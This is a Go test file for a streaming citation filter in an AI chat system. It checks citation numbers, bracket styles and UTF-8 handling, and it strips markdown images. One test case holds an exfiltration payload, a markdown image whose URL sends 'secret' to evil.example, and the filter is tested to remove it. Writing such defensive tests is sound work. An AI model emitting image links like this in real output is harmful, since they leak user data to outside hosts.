package conversation

import (
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"
)

// stream sends text through a citer in pieces of random size.
func stream(text string, sources int, seed uint64) (out string, shown string, cited []int) {
	var b strings.Builder
	c := &citer{sources: sources, emit: func(s string) { b.WriteString(s) }}
	r := rand.New(rand.NewPCG(seed, 1))
	for text != "" {
		n := min(len(text), 1+r.IntN(7))
		c.write(text[:n])
		text = text[n:]
	}
	out = c.close()
	return out, b.String(), c.cited
}

func TestCitationsAreCheckedAsTheyStream(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		cited    int
	}{
		{"Yes [1].", "Yes [1].", 1},
		{"Yes [9].", "Yes .", 0},
		{"Both [1, 2] and [3].", "Both [1][2] and .", 2},
		{"Old style 【1】 and 【2†source】 end", "Old style [1] and [2] end", 2},
		{"See [our page](https://shop.example/a) [1]", "See [our page](https://shop.example/a) [1]", 1},
		{"A link named [1](https://shop.example/a)", "A link named [1](https://shop.example/a)", 0},
		{"![pixel](https://evil.example/?q=secret) hi", "pixel hi", 0},
		{"![a[1]", "![a[1]", 1},
		{"Wow! Great! [2]", "Wow! Great! [2]", 1},
		{"Array a[10] stays? [x]", "Array a stays? [x]", 0},
		{"Ends with [", "Ends with [", 0},
		{"Ends with [1", "Ends with [1", 0},
		{"  \n lead", "lead", 0},
		{"中文回答【1】。", "中文回答[1]。", 1},
	} {
		for seed := range uint64(20) {
			got, shown, cited := stream(tc.in, 2, seed)
			if got != tc.want || len(cited) != tc.cited {
				t.Errorf("citer(%q) = %q citing %v, want %q citing %d", tc.in, got, cited, tc.want, tc.cited)
			}
			if strings.TrimSpace(shown) != got {
				t.Errorf("citer(%q) showed %q but returned %q", tc.in, shown, got)
			}
		}
	}
}

func FuzzCiter(f *testing.F) {
	f.Add("Yes [1] and ![x](y) 【2】 [3", uint64(3))
	f.Add("![[1]](http://e/)[2](", uint64(9))
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		out, shown, cited := stream(text, 2, seed)
		if strings.TrimSpace(shown) != out {
			t.Errorf("showed %q, returned %q", shown, out)
		}
		if utf8.ValidString(text) && !utf8.ValidString(out) {
			t.Errorf("citer(%q) = %q is not valid UTF-8", text, out)
		}
		for _, n := range cited {
			if n < 1 || n > 2 {
				t.Errorf("cited %d of 2 sources", n)
			}
		}
		if strings.Contains(out, "](") && image.MatchString(out) {
			t.Errorf("an image is left in %q", out)
		}
	})
}
